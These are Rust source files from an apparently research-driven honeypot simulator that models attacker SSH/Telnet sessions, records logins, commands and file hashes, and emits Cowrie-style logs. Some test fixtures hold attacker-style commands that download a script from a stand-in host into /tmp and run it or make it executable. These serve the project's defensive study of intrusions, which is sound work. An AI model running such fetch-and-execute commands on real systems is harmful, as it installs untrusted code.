        assert_eq!(sc.fetcher, FetcherKind::Null);
        assert_eq!(sc.honeypot, 7);
        assert_eq!(sc.client, Ip4::new(198, 51, 100, 20));
        assert_eq!(sc.port, 1023);
        assert_eq!(sc.start, SimInstant::from_day_and_secs(5, 1000));
        assert_eq!(sc.steps.len(), 6);
        assert_eq!(sc.steps[0], Step::Think(2));
        assert_eq!(
            sc.steps[1],
            Step::Login {
                user: "root".into(),
                pass: "1234".into()
            }
        );
        assert_eq!(sc.steps[2], Step::Cmd("uname -a".into()));
        assert_eq!(sc.steps[5], Step::Close);
    }

    #[test]
    fn inline_comments_and_blank_lines_ignored() {
        let sc = Scenario::parse("name x  # the name\n\n# nothing\nclose # done\n").unwrap();
        assert_eq!(sc.name, "x");
        assert_eq!(sc.steps, vec![Step::Close]);
    }

    #[test]
    fn missing_name_is_a_syntax_error() {
        match Scenario::parse("close\n") {
            Err(ScenarioError::Syntax { msg, .. }) => assert!(msg.contains("name"), "{msg}"),
            other => panic!("expected syntax error, got {other:?}"),
        }
    }

    #[test]
    fn header_after_step_is_rejected() {
        match Scenario::parse("name x\nclose\nprotocol telnet\n") {
            Err(ScenarioError::Syntax { line, msg }) => {
                assert_eq!(line, 3);
                assert!(msg.contains("precede"), "{msg}");
            }
            other => panic!("expected syntax error, got {other:?}"),
        }
    }

    #[test]
    fn bad_directive_reports_line_number() {
        match Scenario::parse("name x\nfrobnicate 3\n") {
            Err(ScenarioError::Syntax { line, msg }) => {
                assert_eq!(line, 2);
                assert!(msg.contains("frobnicate"), "{msg}");
            }
            other => panic!("expected syntax error, got {other:?}"),
        }
    }

    #[test]
    fn bad_numbers_and_ips_are_typed_errors() {
        assert!(Scenario::parse("name x\nidle soon\n").is_err());
        assert!(Scenario::parse("name x\nclient 1.2.3\n").is_err());
        assert!(Scenario::parse("name x\nstart 0 90000\n").is_err());
        assert!(Scenario::parse("name x\nprotocol gopher\n").is_err());
    }

    #[test]
    fn replay_matches_driver_semantics() {
        // Mirrors session.rs's `three_failed_logins_disconnect` through the
        // scenario path: the auth cap must fire identically.
        let sc = Scenario::parse(
            "name cap\n\
             think 2\n\
             login admin admin\n\
             login root root\n\
             login user 1234\n",
        )
        .unwrap();
        let rec = sc.replay();
        assert_eq!(rec.ended_by, EndReason::AuthLimit);
        assert_eq!(rec.logins.len(), 3);
        assert_eq!(classify_record(&rec), Category::FailLog);
    }

    #[test]
    fn replay_is_deterministic() {
        let sc = Scenario::parse(
            "name det\n\
             login root 1234\n\
             cmd cd /tmp && wget http://198.51.100.1/x.sh\n\
             transfer 200\n\
             cmd sh x.sh\n\
             close\n",
        )
        .unwrap();
        assert_eq!(sc.event_log(), sc.event_log());
        assert_eq!(classify_record(&sc.replay()), Category::CmdUri);
    }

    #[test]
    fn event_log_contains_every_surface() {
        let sc = Scenario::parse(
            "name full\n\
             banner SSH-2.0-Go\n\
             login root 1234\n\
             cmd echo x > /tmp/f\n\
             close\n",
        )
        .unwrap();
        let log = sc.event_log();
        assert!(log.contains("scenario full"), "{log}");
        assert!(log.contains("category CMD"), "{log}");
        assert!(log.contains("behavior intrusion"), "{log}");
        assert!(log.contains("ssh_client SSH-2.0-Go"), "{log}");
        assert!(log.contains("login root/1234 accepted"), "{log}");
        assert!(log.contains("file_hash "), "{log}");
        assert!(log.contains("ended_by ClientClose"), "{log}");
    }
}
