//! Per-session summary records — the unit of the honeyfarm's central
//! database and of every analysis in the paper.

use hf_geo::Ip4;
use hf_hash::Digest;
use hf_proto::creds::Credentials;
use hf_proto::Protocol;
use hf_shell::CommandRecord;
use hf_simclock::SimInstant;
use serde::{Deserialize, Serialize};

/// How a session ended (Section 4: "a session is ended either by a TCP
/// connection tear down from the client or a timeout by the honeypot").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum EndReason {
    /// Client closed the connection.
    ClientClose,
    /// Honeypot pre-auth or idle timeout fired.
    Timeout,
    /// Honeypot disconnected the client after the auth-attempt cap
    /// ("terminated after 3 unsuccessful tries" — 0.3% of SSH sessions).
    AuthLimit,
}

/// One login attempt and its outcome.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LoginAttempt {
    /// Credentials offered.
    pub creds: Credentials,
    /// Whether the honeypot accepted them.
    pub accepted: bool,
}

/// The full summary of one session, as reported to the collector.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SessionRecord {
    /// Index of the honeypot in the farm (0..221).
    pub honeypot: u16,
    /// Protocol used.
    pub protocol: Protocol,
    /// Client address (TCP handshake completed, so not spoofable — Section 7.1).
    pub client_ip: Ip4,
    /// Client source port.
    pub client_port: u16,
    /// Session start time.
    pub start: SimInstant,
    /// Session duration in seconds.
    pub duration_secs: u32,
    /// How the session ended.
    pub ended_by: EndReason,
    /// Client SSH version string from the identification exchange, if SSH.
    pub ssh_client_version: Option<String>,
    /// All login attempts in order.
    pub logins: Vec<LoginAttempt>,
    /// Commands executed after a successful login.
    pub commands: Vec<CommandRecord>,
    /// URIs referenced by commands (deduplicated).
    pub uris: Vec<String>,
    /// SHA-256 hashes of files created or modified, in event order.
    pub file_hashes: Vec<Digest>,
    /// Hashes of downloaded bodies (wget/curl/tftp/ftpget), in order.
    pub download_hashes: Vec<Digest>,
}

impl SessionRecord {
    /// Did any login attempt happen?
    pub fn attempted_login(&self) -> bool {
        !self.logins.is_empty()
    }

    /// Did a login succeed?
    pub fn login_succeeded(&self) -> bool {
        self.logins.iter().any(|l| l.accepted)
    }

    /// Were any commands executed?
    pub fn executed_commands(&self) -> bool {
        !self.commands.is_empty()
    }

    /// Did any command reference a URI?
    pub fn accessed_uri(&self) -> bool {
        !self.uris.is_empty()
    }

    /// End time of the session.
    pub fn end(&self) -> SimInstant {
        self.start.add_secs(self.duration_secs as u64)
    }

    /// Day index of the session start.
    pub fn day(&self) -> u32 {
        self.start.day()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn base_record() -> SessionRecord {
        SessionRecord {
            honeypot: 3,
            protocol: Protocol::Ssh,
            client_ip: Ip4::new(198, 51, 100, 7),
            client_port: 40111,
            start: SimInstant::from_day_and_secs(10, 3600),
            duration_secs: 42,
            ended_by: EndReason::ClientClose,
            ssh_client_version: Some("SSH-2.0-Go".into()),
            logins: vec![],
            commands: vec![],
            uris: vec![],
            file_hashes: vec![],
            download_hashes: vec![],
        }
    }

    #[test]
    fn predicates_on_empty_session() {
        let r = base_record();
        assert!(!r.attempted_login());
        assert!(!r.login_succeeded());
        assert!(!r.executed_commands());
        assert!(!r.accessed_uri());
        assert_eq!(r.day(), 10);
        assert_eq!(r.end().delta_secs(r.start), 42);
    }

    #[test]
    fn login_predicates() {
        let mut r = base_record();
        r.logins.push(LoginAttempt {
            creds: Credentials::new("root", "root"),
            accepted: false,
        });
        assert!(r.attempted_login());
        assert!(!r.login_succeeded());
        r.logins.push(LoginAttempt {
            creds: Credentials::new("root", "1234"),
            accepted: true,
        });
        assert!(r.login_succeeded());
    }

    #[test]
    fn serde_roundtrip() {
        let r = base_record();
        let json = serde_json::to_string(&r).unwrap();
        let back: SessionRecord = serde_json::from_str(&json).unwrap();
        assert_eq!(back, r);
    }
}
