//! Honeypot instance configuration.

use hf_proto::creds::AuthPolicy;
use hf_shell::SystemProfile;
use serde::{Deserialize, Serialize};

/// Configuration of one honeypot instance. All 221 instances in the paper's
/// farm are "identically configured" — the only thing that varies here is the
/// presented machine profile (hostname etc.), which does not affect policy.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HoneypotConfig {
    /// Authentication policy (paper: root / anything-but-"root", 3 attempts).
    pub auth: AuthPolicy,
    /// Seconds a connected-but-unauthenticated client may idle before the
    /// honeypot closes the session (the lower dashed line in Fig. 7).
    pub preauth_timeout_secs: u32,
    /// Seconds an authenticated client may idle before timeout — the paper's
    /// "three minutes" (the upper dashed line in Fig. 7).
    pub idle_timeout_secs: u32,
    /// Whether a pending download resets the idle timer (the paper observes
    /// CMD+URI sessions crossing the timeout "due to the reset of the timeout
    /// period while waiting for the external resource").
    pub download_resets_timeout: bool,
    /// Machine identity shown by the shell.
    pub profile: SystemProfile,
}

impl Default for HoneypotConfig {
    fn default() -> Self {
        Self::paper(SystemProfile::default())
    }
}

impl HoneypotConfig {
    /// The paper's configuration with a given machine profile.
    pub fn paper(profile: SystemProfile) -> Self {
        HoneypotConfig {
            auth: AuthPolicy::paper(),
            preauth_timeout_secs: 60,
            idle_timeout_secs: 180,
            download_resets_timeout: true,
            profile,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_defaults() {
        let c = HoneypotConfig::default();
        assert_eq!(c.idle_timeout_secs, 180);
        assert_eq!(c.preauth_timeout_secs, 60);
        assert_eq!(c.auth.max_attempts, 3);
        assert!(c.download_resets_timeout);
    }
}
