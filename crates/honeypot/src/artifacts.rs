//! Artifact store: metadata about every distinct file content the honeypot
//! has seen, keyed by SHA-256.
//!
//! The real farm stores the files themselves; the analyses only ever use the
//! hash, first-seen time, and occurrence counts, so that is what we keep
//! (plus optional bytes for small artifacts, useful in the live front-end
//! and the forensics example).

use std::collections::HashMap;

use hf_hash::Digest;
use hf_simclock::SimInstant;

/// Metadata for one distinct artifact (unique content hash).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ArtifactMeta {
    /// Size in bytes.
    pub size: usize,
    /// First time this hash was observed.
    pub first_seen: SimInstant,
    /// Last time this hash was observed.
    pub last_seen: SimInstant,
    /// Number of observations.
    pub occurrences: u64,
    /// The content itself, if retained.
    pub bytes: Option<Vec<u8>>,
}

/// Store of artifacts by hash.
#[derive(Debug, Clone, Default)]
pub struct ArtifactStore {
    items: HashMap<Digest, ArtifactMeta>,
    /// Retain bodies at most this large (0 = never retain).
    retain_limit: usize,
}

impl ArtifactStore {
    /// Metadata-only store.
    pub fn new() -> Self {
        Self::default()
    }

    /// Store that retains bodies up to `limit` bytes.
    pub fn with_retention(limit: usize) -> Self {
        ArtifactStore {
            items: HashMap::new(),
            retain_limit: limit,
        }
    }

    /// Record an observation of content. Returns `true` if the hash is new.
    pub fn observe(&mut self, content: &[u8], hash: Digest, at: SimInstant) -> bool {
        match self.items.get_mut(&hash) {
            Some(meta) => {
                meta.occurrences += 1;
                meta.last_seen = meta.last_seen.max(at);
                false
            }
            None => {
                self.items.insert(
                    hash,
                    ArtifactMeta {
                        size: content.len(),
                        first_seen: at,
                        last_seen: at,
                        occurrences: 1,
                        bytes: (content.len() <= self.retain_limit && self.retain_limit > 0)
                            .then(|| content.to_vec()),
                    },
                );
                true
            }
        }
    }

    /// Record an observation when only the hash is known (size unknown).
    pub fn observe_hash(&mut self, hash: Digest, size: usize, at: SimInstant) -> bool {
        match self.items.get_mut(&hash) {
            Some(meta) => {
                meta.occurrences += 1;
                meta.last_seen = meta.last_seen.max(at);
                false
            }
            None => {
                self.items.insert(
                    hash,
                    ArtifactMeta {
                        size,
                        first_seen: at,
                        last_seen: at,
                        occurrences: 1,
                        bytes: None,
                    },
                );
                true
            }
        }
    }

    /// Look up an artifact.
    pub fn get(&self, hash: &Digest) -> Option<&ArtifactMeta> {
        self.items.get(hash)
    }

    /// Number of distinct artifacts.
    pub fn len(&self) -> usize {
        self.items.len()
    }

    /// Is the store empty?
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }

    /// Iterate (hash, meta) pairs in unspecified order.
    pub fn iter(&self) -> impl Iterator<Item = (&Digest, &ArtifactMeta)> {
        self.items.iter()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_hash::Sha256;

    #[test]
    fn observe_counts_and_first_seen() {
        let mut s = ArtifactStore::new();
        let h = Sha256::digest(b"mal");
        assert!(s.observe(b"mal", h, SimInstant(100)));
        assert!(!s.observe(b"mal", h, SimInstant(500)));
        assert!(!s.observe(b"mal", h, SimInstant(300)));
        let m = s.get(&h).unwrap();
        assert_eq!(m.occurrences, 3);
        assert_eq!(m.first_seen, SimInstant(100));
        assert_eq!(m.last_seen, SimInstant(500));
        assert_eq!(m.bytes, None, "metadata-only store retains nothing");
    }

    #[test]
    fn retention_limit() {
        let mut s = ArtifactStore::with_retention(4);
        let small = Sha256::digest(b"ab");
        let large = Sha256::digest(b"abcdefgh");
        s.observe(b"ab", small, SimInstant(0));
        s.observe(b"abcdefgh", large, SimInstant(0));
        assert_eq!(s.get(&small).unwrap().bytes.as_deref(), Some(&b"ab"[..]));
        assert_eq!(s.get(&large).unwrap().bytes, None);
    }

    #[test]
    fn observe_hash_only() {
        let mut s = ArtifactStore::new();
        let h = Sha256::digest(b"x");
        assert!(s.observe_hash(h, 123, SimInstant(7)));
        assert!(!s.observe_hash(h, 123, SimInstant(9)));
        assert_eq!(s.len(), 1);
        assert_eq!(s.get(&h).unwrap().size, 123);
    }
}
