//! The medium-interaction SSH/Telnet honeypot (Cowrie-class), from scratch.
//!
//! A honeypot instance accepts sessions on ports 22/23, applies the paper's
//! authentication policy (root / anything-but-"root", three attempts), hands
//! successful logins an emulated shell ([`hf_shell`]), enforces the pre-auth
//! and post-auth timeouts described in Section 4 (sessions end by client
//! teardown or a three-minute timeout), and records per-session summaries —
//! start/end time, client endpoint, SSH client version, credentials,
//! commands (known/unknown), URIs, and SHA-256 hashes of files created or
//! modified.
//!
//! The crate is transport-agnostic: [`session::SessionDriver`] is a pure
//! state machine driven by inputs. The `hf-wire` crate drives it from real
//! TCP connections; the `hf-sim` crate drives it from synthetic attacker
//! scripts. Both paths produce identical [`record::SessionRecord`]s, which is
//! what makes the simulated dataset a faithful substitute for the paper's.

pub mod artifacts;
pub mod config;
pub mod log;
pub mod record;
pub mod session;

pub use artifacts::ArtifactStore;
pub use config::HoneypotConfig;
pub use log::{CowrieEvent, EventLog};
pub use record::{EndReason, LoginAttempt, SessionRecord};
pub use session::{AuthResult, SessionDriver};
