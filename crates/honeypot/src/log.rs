//! Cowrie-style JSON event log.
//!
//! Cowrie emits one JSON object per event (`cowrie.session.connect`,
//! `cowrie.login.success`, `cowrie.command.input`, …). Operators feed these
//! into collectors; our farm's collector consumes [`SessionRecord`]s instead,
//! but the live front-end and the examples still emit this familiar format so
//! the honeypot is usable as a stand-alone tool with existing log tooling.

use hf_simclock::SimInstant;
use serde::{Deserialize, Serialize};

use crate::record::SessionRecord;

/// One JSON log event (a faithful subset of Cowrie's schema).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CowrieEvent {
    /// Event id, e.g. `cowrie.login.success`.
    pub eventid: String,
    /// ISO timestamp.
    pub timestamp: String,
    /// Session identifier.
    pub session: String,
    /// Source IP.
    pub src_ip: String,
    /// Free-form human message.
    pub message: String,
    /// Username for login events.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub username: Option<String>,
    /// Password for login events.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub password: Option<String>,
    /// Command line for command events.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub input: Option<String>,
    /// SHA-256 for file/download events.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub shasum: Option<String>,
    /// URL for download events.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub url: Option<String>,
}

impl CowrieEvent {
    fn base(eventid: &str, at: SimInstant, session: &str, src_ip: &str, message: String) -> Self {
        CowrieEvent {
            eventid: eventid.to_string(),
            timestamp: at.to_rfc3339(),
            session: session.to_string(),
            src_ip: src_ip.to_string(),
            message,
            username: None,
            password: None,
            input: None,
            shasum: None,
            url: None,
        }
    }
}

/// Expands a finished [`SessionRecord`] into the event stream Cowrie would
/// have logged for it, serialized one-JSON-object-per-line.
#[derive(Debug, Default, Clone)]
pub struct EventLog;

impl EventLog {
    /// Render the event lines for a session.
    pub fn render(record: &SessionRecord) -> Vec<String> {
        let sid = format!(
            "s{:08x}",
            record.start.0 as u32 ^ ((record.honeypot as u32) << 20)
        );
        let ip = record.client_ip.to_string();
        let mut events = Vec::new();
        let mut t = record.start;

        let mut connect = CowrieEvent::base(
            "cowrie.session.connect",
            t,
            &sid,
            &ip,
            format!(
                "New connection: {}:{} ({}) [session: {}]",
                ip,
                record.client_port,
                record.protocol.label(),
                sid
            ),
        );
        if let Some(v) = &record.ssh_client_version {
            connect.message.push_str(&format!(" version: {v}"));
        }
        events.push(connect);

        for l in &record.logins {
            t = t.add_secs(1);
            let eventid = if l.accepted {
                "cowrie.login.success"
            } else {
                "cowrie.login.failed"
            };
            let mut e = CowrieEvent::base(
                eventid,
                t,
                &sid,
                &ip,
                format!(
                    "login attempt [{}/{}] {}",
                    l.creds.username,
                    l.creds.password,
                    if l.accepted { "succeeded" } else { "failed" }
                ),
            );
            e.username = Some(l.creds.username.clone());
            e.password = Some(l.creds.password.clone());
            events.push(e);
        }

        for c in &record.commands {
            t = t.add_secs(1);
            let eventid = if c.known {
                "cowrie.command.input"
            } else {
                "cowrie.command.failed"
            };
            let mut e = CowrieEvent::base(eventid, t, &sid, &ip, format!("CMD: {}", c.input));
            e.input = Some(c.input.clone());
            events.push(e);
        }

        for (i, h) in record.download_hashes.iter().enumerate() {
            t = t.add_secs(1);
            let mut e = CowrieEvent::base(
                "cowrie.session.file_download",
                t,
                &sid,
                &ip,
                format!("Downloaded file with SHA-256 {h}"),
            );
            e.shasum = Some(h.to_hex());
            e.url = record.uris.get(i).cloned();
            events.push(e);
        }

        for h in &record.file_hashes {
            t = t.add_secs(1);
            let mut e = CowrieEvent::base(
                "cowrie.session.file_upload",
                t,
                &sid,
                &ip,
                format!("file created/modified, SHA-256 {h}"),
            );
            e.shasum = Some(h.to_hex());
            events.push(e);
        }

        let end = record.end();
        events.push(CowrieEvent::base(
            "cowrie.session.closed",
            end,
            &sid,
            &ip,
            format!(
                "Connection lost after {} seconds ({:?})",
                record.duration_secs, record.ended_by
            ),
        ));

        events
            .into_iter()
            .map(|e| serde_json::to_string(&e).expect("event serializes"))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::HoneypotConfig;
    use crate::session::SessionDriver;
    use hf_geo::Ip4;
    use hf_proto::creds::Credentials;
    use hf_proto::Protocol;
    use hf_shell::SyntheticFetcher;

    fn sample_record() -> SessionRecord {
        let mut d = SessionDriver::accept(
            HoneypotConfig::default(),
            7,
            Protocol::Ssh,
            Ip4::new(198, 51, 100, 3),
            40000,
            SimInstant::from_day_and_secs(2, 100),
            Box::new(SyntheticFetcher),
        );
        d.client_banner("SSH-2.0-Go");
        d.offer_credentials(Credentials::new("root", "root"), 1);
        d.offer_credentials(Credentials::new("root", "1234"), 1);
        d.run_command("cd /tmp && wget http://h/x && chmod 777 x", 2);
        d.client_close();
        d.into_record()
    }

    #[test]
    fn event_stream_shape() {
        let rec = sample_record();
        let lines = EventLog::render(&rec);
        let parsed: Vec<CowrieEvent> = lines
            .iter()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(parsed.first().unwrap().eventid, "cowrie.session.connect");
        assert_eq!(parsed.last().unwrap().eventid, "cowrie.session.closed");
        assert!(parsed.iter().any(|e| e.eventid == "cowrie.login.failed"));
        assert!(parsed.iter().any(|e| e.eventid == "cowrie.login.success"));
        assert!(parsed.iter().any(|e| e.eventid == "cowrie.command.input"));
        assert!(parsed
            .iter()
            .any(|e| e.eventid == "cowrie.session.file_download"));
    }

    #[test]
    fn login_events_carry_credentials() {
        let rec = sample_record();
        let lines = EventLog::render(&rec);
        let success: CowrieEvent = lines
            .iter()
            .map(|l| serde_json::from_str(l).unwrap())
            .find(|e: &CowrieEvent| e.eventid == "cowrie.login.success")
            .unwrap();
        assert_eq!(success.username.as_deref(), Some("root"));
        assert_eq!(success.password.as_deref(), Some("1234"));
    }

    #[test]
    fn download_event_has_hash_and_url() {
        let rec = sample_record();
        let lines = EventLog::render(&rec);
        let dl: CowrieEvent = lines
            .iter()
            .map(|l| serde_json::from_str(l).unwrap())
            .find(|e: &CowrieEvent| e.eventid == "cowrie.session.file_download")
            .unwrap();
        assert!(dl.shasum.is_some());
        assert_eq!(dl.url.as_deref(), Some("http://h/x"));
    }
}
