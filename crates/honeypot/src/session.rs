//! The honeypot session state machine.
//!
//! [`SessionDriver`] models one client connection from TCP accept to
//! disconnect. It is driven by inputs (client banner, credential offers,
//! command lines, idle gaps) and internally enforces the paper's timeout and
//! auth-cap semantics. Both the live TCP front-end and the simulator drive
//! this same type, so the record schema and edge-case behaviour (e.g. which
//! end-reason a stalled NO_CMD session gets) are identical in both worlds.

use hf_geo::Ip4;
use hf_proto::creds::{AuthOutcome, Credentials};
use hf_proto::Protocol;
use hf_shell::{LineBuf, QuietExec, RemoteFetcher, SessionEvents, ShellSession};
use hf_simclock::SimInstant;

use crate::config::HoneypotConfig;
use crate::record::{EndReason, LoginAttempt, SessionRecord};

/// Result of offering credentials.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AuthResult {
    /// Login accepted: the client now has a shell.
    Accepted,
    /// Login rejected; the client may try again.
    Rejected,
    /// Login rejected and the attempt cap was reached: session over.
    Disconnected,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    /// Connected, not yet authenticated.
    PreAuth,
    /// Authenticated, shell active.
    Shell,
    /// Session finished.
    Done(EndReason),
}

/// One live session.
pub struct SessionDriver {
    config: HoneypotConfig,
    phase: Phase,
    clock: SimInstant,
    /// Idle seconds accumulated since the last client activity.
    idle_secs: u32,
    shell: Option<ShellSession>,
    record: SessionRecord,
    /// Fetcher handed to the shell at login time.
    fetcher: Option<Box<dyn RemoteFetcher>>,
}

impl SessionDriver {
    /// Accept a new connection.
    #[allow(clippy::too_many_arguments)]
    pub fn accept(
        config: HoneypotConfig,
        honeypot: u16,
        protocol: Protocol,
        client_ip: Ip4,
        client_port: u16,
        start: SimInstant,
        fetcher: Box<dyn RemoteFetcher>,
    ) -> Self {
        let record = SessionRecord {
            honeypot,
            protocol,
            client_ip,
            client_port,
            start,
            duration_secs: 0,
            ended_by: EndReason::ClientClose,
            ssh_client_version: None,
            logins: Vec::new(),
            commands: Vec::new(),
            uris: Vec::new(),
            file_hashes: Vec::new(),
            download_hashes: Vec::new(),
        };
        SessionDriver {
            config,
            phase: Phase::PreAuth,
            clock: start,
            idle_secs: 0,
            shell: None,
            record,
            fetcher: Some(fetcher),
        }
    }

    /// Record the client's SSH identification string (SSH sessions only).
    pub fn client_banner(&mut self, banner: &str) {
        if self.record.protocol == Protocol::Ssh {
            self.record.ssh_client_version = Some(banner.trim_end().to_string());
        }
    }

    /// Is the session over?
    pub fn finished(&self) -> bool {
        matches!(self.phase, Phase::Done(_))
    }

    /// Is the client authenticated?
    pub fn authenticated(&self) -> bool {
        matches!(self.phase, Phase::Shell)
    }

    /// Current session clock.
    pub fn now(&self) -> SimInstant {
        self.clock
    }

    /// Let simulated/real time pass with no client activity. May end the
    /// session by timeout. Returns `true` if the session is still alive.
    pub fn advance(&mut self, secs: u32) -> bool {
        if self.finished() {
            return false;
        }
        self.clock = self.clock.add_secs(secs as u64);
        self.idle_secs += secs;
        let limit = match self.phase {
            Phase::PreAuth => self.config.preauth_timeout_secs,
            Phase::Shell => self.config.idle_timeout_secs,
            Phase::Done(_) => return false,
        };
        if self.idle_secs >= limit {
            // Clamp the overshoot: the honeypot fires the timer at the limit.
            let overshoot = self.idle_secs - limit;
            self.clock = SimInstant(self.clock.0 - overshoot as u64);
            self.end(EndReason::Timeout);
            return false;
        }
        true
    }

    /// Offer credentials. Consumes `think_secs` of session time first.
    pub fn offer_credentials(&mut self, creds: Credentials, think_secs: u32) -> AuthResult {
        if self.finished() || !self.advance_activity(think_secs) {
            return AuthResult::Disconnected;
        }
        if self.phase != Phase::PreAuth {
            return AuthResult::Rejected; // already logged in; ignore
        }
        let accepted = self.config.auth.check(&creds) == AuthOutcome::Accepted;
        self.record.logins.push(LoginAttempt { creds, accepted });
        if accepted {
            // The shell itself is created lazily on the first command: a large
            // share of authenticated sessions never type anything (the paper's
            // NO_CMD shape), and they should not pay for VFS setup.
            self.phase = Phase::Shell;
            AuthResult::Accepted
        } else {
            let failures = self.record.logins.iter().filter(|l| !l.accepted).count() as u32;
            if failures >= self.config.auth.max_attempts {
                self.end(EndReason::AuthLimit);
                AuthResult::Disconnected
            } else {
                AuthResult::Rejected
            }
        }
    }

    /// Execute a command line in the shell. Returns terminal output, or
    /// `None` if the session is not in the shell phase. `think_secs` is the
    /// client's typing delay consumed before execution.
    pub fn run_command(&mut self, line: &str, think_secs: u32) -> Option<String> {
        if self.finished() || !self.advance_activity(think_secs) {
            return None;
        }
        if self.phase != Phase::Shell {
            return None;
        }
        let res = self.shell_mut().execute(line);
        if res.exited {
            self.harvest_shell();
            self.end(EndReason::ClientClose);
        }
        Some(res.rendered)
    }

    /// Like [`SessionDriver::run_command`] but without materialising the
    /// terminal output — the simulator's path (nothing echoes the render).
    pub fn run_command_quiet(&mut self, line: &str, think_secs: u32) -> Option<QuietExec> {
        if self.finished() || !self.advance_activity(think_secs) {
            return None;
        }
        if self.phase != Phase::Shell {
            return None;
        }
        let q = self.shell_mut().execute_quiet(line);
        if q.exited {
            self.harvest_shell();
            self.end(EndReason::ClientClose);
        }
        Some(q)
    }

    /// Execute a pre-parsed command line quietly — the prepared-script fast
    /// path (the simulator parses each campaign variant once per day, not
    /// once per session).
    pub fn run_parsed_quiet(&mut self, buf: &LineBuf, think_secs: u32) -> Option<QuietExec> {
        if self.finished() || !self.advance_activity(think_secs) {
            return None;
        }
        if self.phase != Phase::Shell {
            return None;
        }
        let q = self.shell_mut().execute_parsed_quiet(buf);
        if q.exited {
            self.harvest_shell();
            self.end(EndReason::ClientClose);
        }
        Some(q)
    }

    /// The session shell, created on first use.
    fn shell_mut(&mut self) -> &mut ShellSession {
        if self.shell.is_none() {
            let fetcher = self.fetcher.take().expect("fetcher consumed once");
            self.shell = Some(ShellSession::new(self.config.profile.clone(), fetcher));
        }
        self.shell.as_mut().expect("just created")
    }

    /// Account for a completed external transfer taking `secs` — resets the
    /// idle timer if configured (this is how CMD+URI sessions legitimately
    /// exceed the 3-minute cap in the paper).
    pub fn external_transfer(&mut self, secs: u32) {
        if self.finished() {
            return;
        }
        self.clock = self.clock.add_secs(secs as u64);
        if self.config.download_resets_timeout {
            self.idle_secs = 0;
        } else {
            self.idle_secs += secs;
        }
    }

    /// Bulk-append pre-computed shell results to the session — the
    /// simulator's script-cache fast path. The honeypot semantics (must be
    /// authenticated, clock advances, idle timer resets) are preserved; only
    /// the per-command shell emulation is skipped. `exec_secs` is the total
    /// simulated time the script took.
    #[allow(clippy::too_many_arguments)]
    pub fn inject_scripted_results(
        &mut self,
        commands: &[hf_shell::CommandRecord],
        file_hashes: &[hf_hash::Digest],
        uris: &[String],
        download_hashes: &[hf_hash::Digest],
        exec_secs: u32,
    ) -> bool {
        if self.finished() || self.phase != Phase::Shell {
            return false;
        }
        if !self.advance_activity(exec_secs) {
            return false;
        }
        self.record.commands.extend_from_slice(commands);
        self.record.file_hashes.extend_from_slice(file_hashes);
        self.record.uris.extend_from_slice(uris);
        self.record
            .download_hashes
            .extend_from_slice(download_hashes);
        self.record.uris.sort();
        self.record.uris.dedup();
        true
    }

    /// Client closed the connection.
    pub fn client_close(&mut self) {
        if !self.finished() {
            self.harvest_shell();
            self.end(EndReason::ClientClose);
        }
    }

    /// Consume the driver, producing the final record (ends the session as a
    /// client close if still alive).
    pub fn into_record(mut self) -> SessionRecord {
        if !self.finished() {
            self.client_close();
        }
        self.record
    }

    /// Activity both advances the clock and resets the idle timer.
    fn advance_activity(&mut self, secs: u32) -> bool {
        let alive = self.advance(secs);
        if alive {
            self.idle_secs = 0;
        }
        alive
    }

    fn end(&mut self, reason: EndReason) {
        self.harvest_shell();
        self.record.ended_by = reason;
        self.record.duration_secs = self.clock.delta_secs(self.record.start).max(0) as u32;
        self.phase = Phase::Done(reason);
    }

    fn harvest_shell(&mut self) {
        if let Some(shell) = self.shell.as_mut() {
            let SessionEvents {
                commands,
                file_events,
                uris,
                downloads,
            } = shell.take_events();
            self.record.commands.extend(commands);
            self.record
                .file_hashes
                .extend(file_events.iter().map(|e| e.sha256));
            self.record.uris.extend(uris);
            self.record
                .download_hashes
                .extend(downloads.iter().map(|(_, h)| *h));
            self.record.uris.sort();
            self.record.uris.dedup();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_shell::{NullFetcher, SyntheticFetcher};

    fn driver() -> SessionDriver {
        SessionDriver::accept(
            HoneypotConfig::default(),
            0,
            Protocol::Ssh,
            Ip4::new(203, 0, 113, 9),
            50222,
            SimInstant::from_day_and_secs(5, 1000),
            Box::new(SyntheticFetcher),
        )
    }

    #[test]
    fn no_cred_scan_session() {
        let mut d = driver();
        d.client_banner("SSH-2.0-Zgrab");
        d.advance(3);
        d.client_close();
        let r = d.into_record();
        assert!(!r.attempted_login());
        assert_eq!(r.ended_by, EndReason::ClientClose);
        assert_eq!(r.duration_secs, 3);
        assert_eq!(r.ssh_client_version.as_deref(), Some("SSH-2.0-Zgrab"));
    }

    #[test]
    fn preauth_timeout_fires_at_60s() {
        let mut d = driver();
        assert!(d.advance(59));
        assert!(!d.advance(10));
        let r = d.into_record();
        assert_eq!(r.ended_by, EndReason::Timeout);
        assert_eq!(r.duration_secs, 60, "timeout fires exactly at the limit");
    }

    #[test]
    fn three_failed_logins_disconnect() {
        let mut d = driver();
        assert_eq!(
            d.offer_credentials(Credentials::new("admin", "admin"), 2),
            AuthResult::Rejected
        );
        assert_eq!(
            d.offer_credentials(Credentials::new("root", "root"), 2),
            AuthResult::Rejected
        );
        assert_eq!(
            d.offer_credentials(Credentials::new("user", "1234"), 2),
            AuthResult::Disconnected
        );
        let r = d.into_record();
